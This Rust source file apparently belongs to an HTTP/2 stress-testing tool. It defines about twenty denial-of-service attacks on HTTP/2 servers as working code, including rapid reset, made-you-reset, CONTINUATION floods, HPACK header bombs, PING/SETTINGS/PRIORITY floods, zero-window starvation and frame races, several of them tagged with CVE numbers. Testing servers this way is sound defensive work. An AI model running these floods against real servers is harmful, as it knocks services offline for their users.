//! The attacks, each a step that is repeated on a connection for as long as it lasts. The letters are those of the
//! project's list of attacks; the numbers in the descriptions are those under which they became known.

use std::time::{Duration, Instant};

use super::wire::hpack::{self, Method, NEWEST};
use super::wire::{
    CONTINUATION, Closed, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADER_TABLE_SIZE, HEADERS,
    INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, WINDOW_BYTES_MAX, WINDOW_UPDATE, Wire,
};
use crate::http2::echo::{HOLD_PATH, LARGE_PATH};
use crate::work::PATH;

pub(super) mod leak;

/// Frames of a flood between two looks at the clock.
const BATCH: u32 = 500;
const STREAMS: u32 = 100;

/// One way to do harm.
#[derive(Debug)]
pub(crate) struct Attack {
    pub(crate) id: &'static str,
    pub(crate) name: &'static str,
    pub(crate) about: &'static str,
    /// What the attacker's SETTINGS say.
    pub(super) settings: &'static [(u16, u32)],
    pub(super) reading: Reading,
    pub(super) step: Step,
}

/// Whether the attacker reads what it is sent.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(super) enum Reading {
    Always,
    Never,
    /// Always, and what is sent next depends on it.
    Awaited,
}

/// Does what comes next and says how long to wait after it.
type Step = fn(&mut Wire, &mut State) -> Result<Duration, Closed>;

/// What a thread knows, over its connections.
pub(super) struct State {
    pub(super) rng: fastrand::Rng,
    /// This connection's number.
    pub(super) connection: u32,
    /// Steps done on this connection.
    pub(super) steps: u32,
    /// Streams that are thought to be open on it.
    pub(super) streams: Vec<u32>,
    pub(super) end: Instant,
    pub(super) leak: leak::Progress,
}

const AT_ONCE: Result<Duration, Closed> = Ok(Duration::ZERO);
const NO_WINDOW: &[(u16, u32)] = &[(INITIAL_WINDOW_SIZE, 0)];
const WIDE_WINDOW: &[(u16, u32)] = &[(INITIAL_WINDOW_SIZE, WINDOW_BYTES_MAX)];

/// A row of the table below.
const fn attack(id: &'static str, name: &'static str, about: &'static str, step: Step) -> Attack {
    Attack { id, name, about, settings: &[], reading: Reading::Always, step }
}

/// All of them.
pub(crate) const ATTACKS: &[Attack] = &[
    attack("H00", "none", "a connection that does nothing: how quiet the machine is", nothing),
    attack("H01", "rapid-reset", "requests cancelled at once (CVE-2023-44487)", rapid_reset),
    attack("H02", "made-you-reset", "requests that the server has to reset (CVE-2025-8671)", made_you_reset),
    attack("H03", "continuations", "a header block that never ends (CVE-2024-27316)", continuations),
    attack("H03", "continuations-small", "a header block in frames of one byte", small_continuations),
    Attack {
        settings: NO_WINDOW,
        ..attack(
            "H04",
            "bomb-fields",
            "one field referred to 16,000 times, no window for answers",
            bomb_fields,
        )
    },
    Attack {
        settings: NO_WINDOW,
        ..attack("H04", "bomb-cookies", "one cookie crumb referred to 16,000 times, no window", bomb_cookies)
    },
    attack("H05", "bomb-table", "a 4 KB field referred to 16,000 times (CVE-2016-6581)", bomb_table),
    attack("H06", "empty-data", "DATA frames with nothing in them (CVE-2019-9518)", empty_data),
    attack("H06", "empty-continuations", "CONTINUATION frames with nothing in them", empty_continuations),
    Attack { reading: Reading::Never, ..attack("H07", "pings", "PING, not reading (CVE-2019-9512)", pings) },
    Attack {
        reading: Reading::Never,
        ..attack("H07", "settings", "SETTINGS, not reading (CVE-2019-9515)", settings_frames)
    },
    Attack {
        reading: Reading::Never,
        ..attack("H07", "priorities", "PRIORITY, not reading (CVE-2019-9513)", priorities)
    },
    Attack {
        reading: Reading::Never,
        ..attack("H07", "window-updates", "WINDOW_UPDATE by one", window_updates)
    },
    attack("H08", "empty-fields", "fields without name and value (CVE-2019-9516)", empty_fields),
    Attack {
        settings: NO_WINDOW,
        ..attack("H08", "dribble", "large answers let through byte by byte (CVE-2019-9511)", dribble)
    },
    Attack {
        settings: WIDE_WINDOW,
        reading: Reading::Never,
        ..attack(
            "H08",
            "not-reading",
            "large answers, wide windows, nothing read (CVE-2019-9517)",
            not_reading,
        )
    },
    Attack {
        settings: NO_WINDOW,
        ..attack("H09", "zero-window", "100 answers of 1 MiB, one byte of window a second", zero_window)
    },
    attack("H10", "table-size", "the size of the table changed between requests", table_size),
    attack("H11", "slow-bodies", "100 requests, a byte of each body every ten seconds", slow_bodies),
    attack("H12", "races", "frames and ends of streams in random order", races),
    Attack {
        settings: WIDE_WINDOW,
        reading: Reading::Awaited,
        ..attack(
            "H13",
            "window-leak",
            "padding and resets, then 10 MiB that have to come through",
            leak::step,
        )
    },
];

fn nothing(_: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    Ok(Duration::from_secs(1))
}

fn rapid_reset(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    let block = hpack::request(Method::Get, HOLD_PATH);
    for _ in 0..BATCH {
        let stream = wire.open(END_STREAM | END_HEADERS, &block);
        wire.reset(stream);
    }
    AT_ONCE
}

/// Six ways to be reset; a connection keeps to one, because some end all of it.
fn made_you_reset(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    let block = hpack::request(Method::Get, HOLD_PATH);
    for _ in 0..BATCH / 5 {
        let stream = wire.open(END_STREAM | END_HEADERS, &block);
        match state.connection % 6 {
            0 => wire.window_update(stream, 0),
            1 => wire.window_update(stream, WINDOW_BYTES_MAX),
            2 => wire.frame(PRIORITY, 0, stream, &[0; 4]),
            3 => {
                let [a, b, c, d] = stream.to_be_bytes();
                wire.frame(PRIORITY, 0, stream, &[a, b, c, d, 16]);
            }
            4 => wire.frame(HEADERS, END_STREAM | END_HEADERS, stream, &block),
            _ => wire.frame(DATA, END_STREAM, stream, b"late"),
        }
    }
    AT_ONCE
}

fn continuations(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    if state.steps == 0 {
        let stream = wire.open(END_STREAM, &hpack::request(Method::Get, PATH));
        state.streams.push(stream);
    }
    let mut fields = Vec::with_capacity(FRAME_BYTES_MAX);
    while fields.len() + 5 <= FRAME_BYTES_MAX {
        hpack::literal(&mut fields, b"x", b"y");
    }
    wire.frame(CONTINUATION, 0, state.streams.first().copied().unwrap_or(1), &fields);
    AT_ONCE
}

fn small_continuations(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    let mut block = hpack::request(Method::Get, PATH);
    hpack::literal(&mut block, b"x", &[b'y'; 1000]);
    let (first, rest) = block.split_at(1);
    let stream = wire.open(END_STREAM, first);
    for byte in rest {
        wire.frame(CONTINUATION, 0, stream, &[*byte]);
    }
    wire.frame(CONTINUATION, END_HEADERS, stream, &[]);
    AT_ONCE
}

fn bomb_fields(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    bomb(wire, state, (b"a", b"b"))
}

fn bomb_cookies(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    bomb(wire, state, (b"cookie", b"a=b"))
}

fn bomb_table(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    bomb(wire, state, (b"x", &[b'v'; 4000]))
}

/// Requests that refer to one field as often as a frame can; a byte of window for one of them now and then.
fn bomb(wire: &mut Wire, state: &mut State, (name, value): (&[u8], &[u8])) -> Result<Duration, Closed> {
    let mut block = hpack::request(Method::Get, LARGE_PATH);
    if state.steps == 0 {
        hpack::remembered(&mut block, name, value);
    } else {
        block.resize(16_000, NEWEST);
    }
    let stream = wire.open(END_STREAM | END_HEADERS, &block);
    state.streams.push(stream);
    if let Some(stream) = state.rng.choice(&state.streams) {
        wire.window_update(*stream, 1);
    }
    AT_ONCE
}

fn empty_data(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    if state.steps == 0 {
        state.streams.push(wire.open(END_HEADERS, &hpack::request(Method::Post, PATH)));
    }
    for _ in 0..BATCH {
        wire.frame(DATA, 0, state.streams.first().copied().unwrap_or(1), &[]);
    }
    AT_ONCE
}

fn empty_continuations(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    if state.steps == 0 {
        state.streams.push(wire.open(END_STREAM, &hpack::request(Method::Get, PATH)));
    }
    for _ in 0..BATCH {
        wire.frame(CONTINUATION, 0, state.streams.first().copied().unwrap_or(1), &[]);
    }
    AT_ONCE
}

fn pings(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    for _ in 0..BATCH {
        wire.frame(PING, 0, 0, b"loadload");
    }
    AT_ONCE
}

fn settings_frames(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    for _ in 0..BATCH {
        wire.settings(&[]);
    }
    AT_ONCE
}

/// Streams made to depend on each other in ever other ways, none of them open.
fn priorities(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    const EXCLUSIVE: u32 = 1 << 31;
    for _ in 0..BATCH {
        let stream = 2 * state.rng.u32(0..1000) + 1;
        let [a, b, c, d] = (EXCLUSIVE | (2 * state.rng.u32(1000..2000) + 1)).to_be_bytes();
        wire.frame(PRIORITY, 0, stream, &[a, b, c, d, state.rng.u8(..)]);
    }
    AT_ONCE
}

fn window_updates(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    for _ in 0..BATCH {
        wire.window_update(0, 1);
    }
    AT_ONCE
}

fn empty_fields(wire: &mut Wire, _: &mut State) -> Result<Duration, Closed> {
    let mut block = hpack::request(Method::Get, PATH);
    for _ in 0..1000 {
        hpack::literal(&mut block, b"", b"");
    }
    wire.open(END_STREAM | END_HEADERS, &block);
    AT_ONCE
}

fn dribble(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    open_large(wire, state);
    for stream in &state.streams {
        wire.window_update(*stream, 1);
    }
    AT_ONCE
}

fn not_reading(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    open_large(wire, state);
    if state.steps == 0 {
        wire.window_update(0, 1 << 30);
    }
    Ok(Duration::from_millis(100))
}

fn zero_window(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    open_large(wire, state);
    for stream in &state.streams {
        wire.window_update(*stream, 1);
    }
    Ok(Duration::from_secs(1))
}

/// On a new connection, as many requests for large answers as are usually allowed.
fn open_large(wire: &mut Wire, state: &mut State) {
    if state.steps == 0 {
        let block = hpack::request(Method::Get, LARGE_PATH);
        state.streams = (0..STREAMS).map(|_| wire.open(END_STREAM | END_HEADERS, &block)).collect();
    }
}

fn table_size(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    let size = if state.steps.is_multiple_of(2) { 0 } else { u32::MAX };
    wire.settings(&[(HEADER_TABLE_SIZE, size)]);
    wire.open(END_STREAM | END_HEADERS, &hpack::request(Method::Get, PATH));
    AT_ONCE
}

fn slow_bodies(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    if state.steps == 0 {
        let block = hpack::request(Method::Post, PATH);
        state.streams = (0..STREAMS).map(|_| wire.open(END_HEADERS, &block)).collect();
    }
    for stream in &state.streams {
        wire.frame(DATA, 0, *stream, b"1");
    }
    Ok(Duration::from_secs(10))
}

fn races(wire: &mut Wire, state: &mut State) -> Result<Duration, Closed> {
    for _ in 0..50 {
        let path = state.rng.choice([PATH, HOLD_PATH, LARGE_PATH]).unwrap_or(PATH);
        let stream = state.rng.choice(&state.streams).copied().unwrap_or(1);
        match state.rng.u32(0..20) {
            0..6 => state.streams.push(wire.open(END_HEADERS, &hpack::request(Method::Post, path))),
            6..9 => {
                state.streams.push(wire.open(END_HEADERS | END_STREAM, &hpack::request(Method::Get, path)))
            }
            9..12 => wire.frame(DATA, END_STREAM, stream, b"the end"),
            12..15 => wire.frame(DATA, 0, stream, b"more"),
            15 => {
                // In one packet: the end, what must not follow it, and the end again.
                wire.frame(DATA, END_STREAM, stream, b"the end");
                wire.reset(stream);
                wire.frame(DATA, 0, stream, b"after");
            }
            16 => wire.frame(RST_STREAM, 0, stream, &state.rng.u32(..16).to_be_bytes()),
            17 => wire.frame(WINDOW_UPDATE, 0, stream, &state.rng.u32(1..1000).to_be_bytes()),
            18 => wire.frame(HEADERS, END_STREAM | END_HEADERS, stream, &[]),
            _ if state.rng.u32(..50) == 0 => wire.frame(GOAWAY, 0, 0, &[0; 8]),
            _ => wire.reset(stream),
        }
        if state.streams.len() > STREAMS as usize {
            state.streams.remove(0);
        }
    }
    AT_ONCE
}
